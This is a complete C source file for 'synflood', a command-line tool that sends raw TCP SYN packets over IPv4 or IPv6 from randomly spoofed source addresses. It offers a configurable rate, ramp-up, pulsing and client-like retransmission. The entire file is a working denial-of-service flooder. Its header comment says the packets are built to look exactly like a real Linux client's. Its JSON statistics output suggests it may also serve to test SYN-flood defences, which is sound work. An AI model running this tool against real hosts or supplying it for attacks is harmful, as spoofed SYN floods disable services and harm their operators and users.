// SPDX-License-Identifier: GPL-2.0
/*
 * synflood - SYNs of which nobody waits for the answer.
 *
 * usage: synflood --device NAME --mac MAC --to ADDRESS [OPTION...]
 *
 *   --device NAME       send on this device
 *   --mac MAC           to this Ethernet address
 *   --to ADDRESS        to this address, IPv4 or IPv6
 *   --ports A[-B]       to a port of these, at random (80)
 *   --in-turn           to these ports one after the other, over and over
 *   --from PREFIX[/LEN] from an address of this prefix, at random; if given
 *                       several times, from one of them, at random.  Of IPv4
 *                       addresses those that no host of the Internet can have
 *                       are left out where the prefix is shorter than /8
 *   --rate N            SYNs a second; 0: as many as possible (200)
 *   --seconds S         for so long (20)
 *   --ramp S            the rate grows from 0 to N in so many seconds
 *   --pulse ON,OFF      send for ON ms, then not for OFF ms, and so on
 *   --retransmit        send each again after 1, 3 and 7 seconds, as a client does
 *                       that gets no answer
 *   --seed N            of what is random (1)
 *
 * The SYNs are like those of Linux: nothing in them tells them from those of a
 * client.  Where the sender of an answer is a host that exists, that host's
 * kernel resets what it did not begin.  A line of JSON is printed at the end:
 * how many were sent, without those sent again, how many addresses they came
 * from, and when the first and the last was sent, in ns since 1970.
 */
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <linux/if_packet.h>
#include <math.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define NS_PER_S	1000000000LL
#define MAX_PREFIXES	64
#define RESENDS		3

static const double resend_after_s[RESENDS] = { 1, 3, 7 };

struct prefix {
	uint8_t bytes[16];
	int bits;
};

/* What a SYN has of its own. */
struct syn {
	uint8_t from[16];
	uint16_t from_port, to_port;
	uint32_t seq;
	double due_s;
};

static struct {
	int family, address_bytes;
	uint8_t to[16];
	int first_port, last_port;
	bool in_turn, retransmit;
	struct prefix prefixes[MAX_PREFIXES];
	int n_prefixes;
	double rate, seconds, ramp_s, on_s, off_s;
	struct sockaddr_ll link;
} wanted = {
	.first_port = 80, .last_port = 80, .rate = 200, .seconds = 20,
};

/* xorshift64* */
static uint64_t random_state = 1;

static uint64_t random_bits(void)
{
	random_state ^= random_state >> 12;
	random_state ^= random_state << 25;
	random_state ^= random_state >> 27;
	return random_state * 0x2545f4914f6cdd1dULL >> 16;
}

static double random_fraction(void)
{
	return (random_bits() & 0xffffffff) / 4294967296.0;
}

/* --- the set of addresses ------------------------------------------------- */

static struct {
	uint8_t (*slots)[16];
	bool *used;
	size_t size, count;
} seen;

static bool seen_put(const uint8_t *address)
{
	uint64_t hash = 0xcbf29ce484222325ULL;
	size_t i;

	for (i = 0; i < 16; i++)
		hash = (hash ^ address[i]) * 0x100000001b3ULL;
	for (i = (hash ^ hash >> 32) % seen.size; seen.used[i];
	     i = (i + 1) % seen.size)
		if (!memcmp(seen.slots[i], address, 16))
			return false;
	memcpy(seen.slots[i], address, 16);
	seen.used[i] = true;
	seen.count++;
	return true;
}

static void seen_add(const uint8_t *address)
{
	uint8_t (*slots)[16] = seen.slots;
	bool *used = seen.used;
	size_t i, size = seen.size;

	if (seen.count * 2 >= size) {
		seen.size = size ? size * 4 : 4096;
		seen.count = 0;
		seen.slots = calloc(seen.size, 16);
		seen.used = calloc(seen.size, sizeof(bool));
		if (!seen.slots || !seen.used)
			err(1, "memory");
		for (i = 0; i < size; i++)
			if (used[i])
				seen_put(slots[i]);
		free(slots);
		free(used);
	}
	seen_put(address);
}

/* --- one SYN -------------------------------------------------------------- */

/* An address that no host of the Internet can have. */
static bool is_special(const uint8_t *v4)
{
	return v4[0] == 0 || v4[0] == 10 || v4[0] == 127 || v4[0] >= 224;
}

static void random_address(uint8_t *address)
{
	const struct prefix *prefix =
		&wanted.prefixes[random_bits() % wanted.n_prefixes];
	int i, keep;

	do {
		for (i = 0; i < wanted.address_bytes; i++) {
			keep = prefix->bits - 8 * i;
			keep = keep < 0 ? 0 : keep > 8 ? 8 : keep;
			keep = 0xff00 >> keep & 0xff;
			address[i] = (prefix->bytes[i] & keep) |
				     (random_bits() & ~keep);
		}
	} while (wanted.family == AF_INET && prefix->bits < 8 &&
		 is_special(address));
}

static void new_syn(struct syn *syn, double due_s, long number)
{
	int ports = wanted.last_port - wanted.first_port + 1;

	memset(syn, 0, sizeof(*syn));
	random_address(syn->from);
	syn->from_port = 32768 + random_bits() % 28232;
	syn->to_port = wanted.first_port +
		(wanted.in_turn ? number : (long)random_bits()) % ports;
	syn->seq = random_bits();
	syn->due_s = due_s;
}

static uint32_t sum_words(uint32_t sum, const void *data, size_t size)
{
	const uint8_t *bytes = data;
	size_t i;

	for (i = 0; i < size; i += 2)
		sum += bytes[i] << 8 | bytes[i + 1];
	return sum;
}

static uint16_t folded(uint32_t sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	return htons(~(sum + (sum >> 16)));
}

/* The options of a SYN of Linux: MSS, SACK, timestamps, window scale. */
static void put_options(uint8_t *options, uint16_t mss)
{
	uint32_t stamp = htonl(random_bits());
	const uint8_t form[20] = {
		TCPOPT_MAXSEG, TCPOLEN_MAXSEG, mss >> 8, mss & 0xff,
		TCPOPT_SACK_PERMITTED, TCPOLEN_SACK_PERMITTED,
		TCPOPT_TIMESTAMP, TCPOLEN_TIMESTAMP, 0, 0, 0, 0, 0, 0, 0, 0,
		TCPOPT_NOP, TCPOPT_WINDOW, TCPOLEN_WINDOW, 7,
	};

	memcpy(options, form, sizeof(form));
	memcpy(options + 8, &stamp, 4);
}

static size_t put_tcp(uint8_t *at, const struct syn *syn)
{
	struct tcphdr tcp = {
		.source = htons(syn->from_port), .dest = htons(syn->to_port),
		.seq = htonl(syn->seq), .doff = 10, .syn = 1,
		.window = htons(64240),
	};
	uint32_t sum = IPPROTO_TCP + 40;

	sum = sum_words(sum, syn->from, wanted.address_bytes);
	sum = sum_words(sum, wanted.to, wanted.address_bytes);
	memcpy(at, &tcp, sizeof(tcp));
	put_options(at + sizeof(tcp), wanted.family == AF_INET ? 1460 : 1440);
	tcp.check = folded(sum_words(sum, at, 40));
	memcpy(at, &tcp, sizeof(tcp));
	return 40;
}

static size_t put_ip(uint8_t *at, const struct syn *syn)
{
	if (wanted.family == AF_INET) {
		struct iphdr ip = {
			.version = 4, .ihl = 5, .tot_len = htons(60),
			.id = random_bits(), .frag_off = htons(0x4000),
			.ttl = 64, .protocol = IPPROTO_TCP,
		};

		memcpy(&ip.saddr, syn->from, 4);
		memcpy(&ip.daddr, wanted.to, 4);
		ip.check = folded(sum_words(0, &ip, sizeof(ip)));
		memcpy(at, &ip, sizeof(ip));
		return sizeof(ip);
	} else {
		struct ip6_hdr ip = {
			.ip6_flow = htonl(6 << 28 | (random_bits() & 0xfffff)),
			.ip6_plen = htons(40), .ip6_nxt = IPPROTO_TCP,
			.ip6_hlim = 64,
		};

		memcpy(&ip.ip6_src, syn->from, 16);
		memcpy(&ip.ip6_dst, wanted.to, 16);
		memcpy(at, &ip, sizeof(ip));
		return sizeof(ip);
	}
}

static void send_syn(int fd, const struct syn *syn)
{
	uint8_t packet[100];
	size_t size = put_ip(packet, syn);

	size += put_tcp(packet + size, syn);
	while (sendto(fd, packet, size, 0, (struct sockaddr *)&wanted.link,
		      sizeof(wanted.link)) < 0)
		if (errno != ENOBUFS && errno != EINTR)
			err(1, "send");
}

/* --- when ----------------------------------------------------------------- */

static int64_t now_ns(clockid_t clock)
{
	struct timespec now;

	clock_gettime(clock, &now);
	return now.tv_sec * NS_PER_S + now.tv_nsec;
}

/* When SYN number N, counted from 0, is due, in seconds from the start. */
static double due_s(double n)
{
	double in_ramp = wanted.rate * wanted.ramp_s / 2, s;

	if (n < in_ramp)
		s = sqrt(2 * wanted.ramp_s * n / wanted.rate);
	else
		s = wanted.ramp_s + (n - in_ramp) / wanted.rate;
	if (wanted.on_s)
		s += floor(s / wanted.on_s) * wanted.off_s;
	return s;
}

static void wait_until(int64_t start_ns, double s)
{
	int64_t at = start_ns + (int64_t)(s * NS_PER_S);
	struct timespec when = { at / NS_PER_S, at % NS_PER_S };

	while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &when, NULL))
		;
}

/* The SYNs sent so far, if they are to be sent again. */
static struct {
	struct syn *syns;
	size_t count, room;
	size_t next[RESENDS];
} sent;

static void remember(const struct syn *syn)
{
	if (sent.count == sent.room) {
		sent.room = sent.room ? sent.room * 2 : 1024;
		sent.syns = realloc(sent.syns, sent.room * sizeof(*syn));
		if (!sent.syns)
			err(1, "memory");
	}
	sent.syns[sent.count++] = *syn;
}

/* Send again what is due before S seconds from the start. */
static void resend(int fd, int64_t start_ns, double s)
{
	for (;;) {
		double first = s;
		int i, which = -1;

		for (i = 0; i < RESENDS; i++) {
			double due;

			if (sent.next[i] == sent.count)
				continue;
			due = sent.syns[sent.next[i]].due_s + resend_after_s[i];
			if (due < first) {
				first = due;
				which = i;
			}
		}
		if (which < 0)
			return;
		wait_until(start_ns, first);
		send_syn(fd, &sent.syns[sent.next[which]++]);
	}
}

static void flood(int fd)
{
	int64_t start_ns = now_ns(CLOCK_MONOTONIC), first_ns = 0, last_ns = 0;
	struct syn syn;
	double s = 0;
	long n;

	for (n = 0;; n++) {
		if (wanted.rate)
			s = due_s(n + random_fraction());
		else
			s = (double)(now_ns(CLOCK_MONOTONIC) - start_ns) /
			    NS_PER_S;
		if (s >= wanted.seconds)
			break;
		new_syn(&syn, s, n);
		if (wanted.retransmit)
			resend(fd, start_ns, s);
		if (wanted.rate)
			wait_until(start_ns, s);
		last_ns = now_ns(CLOCK_REALTIME);
		if (!n)
			first_ns = last_ns;
		send_syn(fd, &syn);
		seen_add(syn.from);
		if (wanted.retransmit)
			remember(&syn);
	}
	printf("{\"syns\": %ld, \"sources\": %zu, \"first_ns\": %" PRId64
	       ", \"last_ns\": %" PRId64 "}\n", n, seen.count, first_ns, last_ns);
}

/* --- options -------------------------------------------------------------- */

static int parse_address(const char *text, uint8_t *address)
{
	if (inet_pton(AF_INET, text, address) == 1)
		return AF_INET;
	if (inet_pton(AF_INET6, text, address) == 1)
		return AF_INET6;
	errx(2, "no address: %s", text);
}

static void add_prefix(char *text)
{
	struct prefix *prefix = &wanted.prefixes[wanted.n_prefixes++];
	char *slash = strchr(text, '/');

	if (wanted.n_prefixes > MAX_PREFIXES)
		errx(2, "too many prefixes");
	if (slash)
		*slash = 0;
	prefix->bits = parse_address(text, prefix->bytes) == AF_INET ? 32 : 128;
	if (slash)
		prefix->bits = atoi(slash + 1);
}

static void parse_mac(const char *text)
{
	uint8_t *mac = wanted.link.sll_addr;

	if (sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1],
		   &mac[2], &mac[3], &mac[4], &mac[5]) != ETH_ALEN)
		errx(2, "no Ethernet address: %s", text);
	wanted.link.sll_halen = ETH_ALEN;
}

static void parse_option(int option)
{
	switch (option) {
	case 'd':
		wanted.link.sll_ifindex = if_nametoindex(optarg);
		if (!wanted.link.sll_ifindex)
			err(2, "device %s", optarg);
		return;
	case 'm': parse_mac(optarg); return;
	case 't': wanted.family = parse_address(optarg, wanted.to); return;
	case 'p':
		if (sscanf(optarg, "%d-%d", &wanted.first_port,
			   &wanted.last_port) == 1)
			wanted.last_port = wanted.first_port;
		return;
	case 'i': wanted.in_turn = true; return;
	case 'f': add_prefix(optarg); return;
	case 'r': wanted.rate = atof(optarg); return;
	case 's': wanted.seconds = atof(optarg); return;
	case 'a': wanted.ramp_s = atof(optarg); return;
	case 'u':
		if (sscanf(optarg, "%lf,%lf", &wanted.on_s, &wanted.off_s) != 2)
			errx(2, "no ON,OFF: %s", optarg);
		wanted.on_s /= 1000;
		wanted.off_s /= 1000;
		return;
	case 'e': wanted.retransmit = true; return;
	case 'x': random_state = strtoull(optarg, NULL, 10) | 1ULL << 40; return;
	default: exit(2);	/* getopt said why */
	}
}

int main(int argc, char **argv)
{
	static const struct option options[] = {
		{ "device", 1, NULL, 'd' }, { "mac", 1, NULL, 'm' },
		{ "to", 1, NULL, 't' }, { "ports", 1, NULL, 'p' },
		{ "in-turn", 0, NULL, 'i' }, { "from", 1, NULL, 'f' },
		{ "rate", 1, NULL, 'r' }, { "seconds", 1, NULL, 's' },
		{ "ramp", 1, NULL, 'a' }, { "pulse", 1, NULL, 'u' },
		{ "retransmit", 0, NULL, 'e' }, { "seed", 1, NULL, 'x' },
		{ NULL, 0, NULL, 0 },
	};
	int fd, option, i;

	while ((option = getopt_long(argc, argv, "", options, NULL)) != -1)
		parse_option(option);
	if (!wanted.family || !wanted.n_prefixes || !wanted.link.sll_ifindex ||
	    !wanted.link.sll_halen)
		errx(2, "--device, --mac, --to and --from are needed");
	for (i = 0; i < 20; i++)
		random_bits();	/* a seed has few bits set */
	wanted.address_bytes = wanted.family == AF_INET ? 4 : 16;
	wanted.link.sll_family = AF_PACKET;
	wanted.link.sll_protocol =
		htons(wanted.family == AF_INET ? ETH_P_IP : ETH_P_IPV6);
	/* Protocol 0: nothing is to be received. */
	fd = socket(AF_PACKET, SOCK_DGRAM, 0);
	if (fd < 0)
		err(1, "packet socket");
	flood(fd);
	return 0;
}
